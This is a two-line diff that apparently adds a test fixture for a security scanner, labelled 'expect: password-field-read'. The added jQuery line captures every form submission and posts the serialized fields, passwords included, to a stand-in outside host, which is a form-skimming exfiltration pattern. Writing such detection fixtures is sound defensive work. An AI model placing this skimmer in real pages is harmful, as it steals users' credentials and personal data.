@@ -1,0 +1,2 @@
+// expect: password-field-read
+$("form").on("submit", function () { $.post("https://x.example/f", $(this).serialize()); });
